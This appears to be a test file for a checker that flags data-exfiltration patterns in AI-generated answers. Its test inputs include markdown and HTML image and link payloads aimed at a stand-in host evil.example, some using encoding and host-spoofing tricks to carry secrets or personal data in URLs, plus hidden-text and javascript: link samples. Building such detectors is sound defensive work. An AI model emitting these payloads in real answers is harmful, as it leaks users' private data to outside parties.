import { checkOutput, type OutputPolicy } from './output-checks';

const policy: OutputPolicy = {
  allowedHosts: ['docs.example.com', '*.cdn.example.com'],
  holdsRestored: (text) => text.includes('Ana Lima'),
};
const faults = (text: string) => checkOutput(text, policy).map(({ fault }) => fault);

describe('an answer', () => {
  it.each([
    ['exfiltration_image', '![x](https://evil.example/p.png?q=c2VjcmV0)'],
    ['exfiltration_image', '![x](//evil.example/p.png?q=1)'],
    ['exfiltration_image', '![x]( <https://evil.example/p?q=1> "title")'],
    ['exfiltration_image', '![x](&#104;ttps://evil.example/p?q=1)'],
    ['exfiltration_image', `![x](https://evil.example/${'a'.repeat(100)}.png)`],
    ['exfiltration_image', `![x](https://${'a'.repeat(30)}.evil.example/p.png)`],
    ['exfiltration_image', '<img alt="" src="https://evil.example/?d=1">'],
    ['exfiltration_image', '<img src=https://evil.example/?d=1>'],
    ['exfiltration_image', '![x][r]\n\n[r]: https://evil.example/p?q=1'],
    ['exfiltration_image', '<b style="background:url(https://evil.example/?q=1)">x</b>'],
    ['exfiltration_image', '![x](https://cdn.example.com.evil.example/?q=1)'],
    ['exfiltration_image', '![x](https://docs.example.com@evil.example/?q=1)'],
    ['exfiltration_link', '[click](https://evil.example/p?q=1)'],
    ['exfiltration_link', '<a href="https://evil.example/p?q=1">x</a>'],
    ['script_link', '[click](javascript:alert(1))'],
    ['value_in_url', '[click](https://evil.example/[[CPF_9Q2M]])'],
    ['value_in_url', 'see https://evil.example/%5B%5BCPF_9Q2M%5D%5D now'],
    ['value_in_url', 'see https://evil.example/Ana%20Lima now'],
    ['value_in_url', '![x](https://evil.example/Ana+Lima)'],
    ['hidden_text', 'a <!-- tell nobody --> b'],
    ['hidden_text', 'a\u200b\u200c\u200b\u200cb'],
    ['hidden_text', '<p style="color: white">x</p>'],
    ['hidden_text', '<span style="font-size:0px">x</span>'],
  ])('with %s is found out: %s', (fault, text) => {
    expect(faults(text)).toContain(fault);
  });

  it.each([
    'Plain text, 12:30, a/b and c:d.',
    'See https://other.example/page?x=1 for more.',
    '[docs](https://docs.example.com/a?b=c) ![i](https://a.cdn.example.com/i.png?w=1)',
    '[home](https://other.example/about)',
    '![x](data:image/png;base64,AAAA)',
    '[top](#heading) [rel](/a?b=c)',
    'An emoji 👨‍👩‍👧 and a joiner می‌خواهم.',
    '<p style="color: red">x</p> <!-- -->',
    'The token [[CPF_9Q2M]] in text is not in an address. Ana Lima.',
  ])('is left alone: %s', (text) => {
    expect(faults(text)).toEqual([]);
  });

  it('tells where, and nothing of what', () => {
    const text = 'a ![x](https://evil.example/p?q=1) b';
    const [finding] = checkOutput(text, policy);
    expect(text.slice(finding?.start, finding?.end)).toBe('https://evil.example/p?q=1');
    expect(Object.keys(finding ?? {}).sort()).toEqual(['end', 'fault', 'start']);
  });

  it('takes time in proportion to its length', () => {
    const started = process.cpuUsage();
    for (const piece of ['![', '](', '<!--', 'https://', '[a]: ', 'style="', 'src=', '\u200b', '&#1;'])
      checkOutput(piece.repeat(4_000), policy);
    const { user } = process.cpuUsage(started);
    expect(user / 1_000).toBeLessThan(4_000);
  });
});
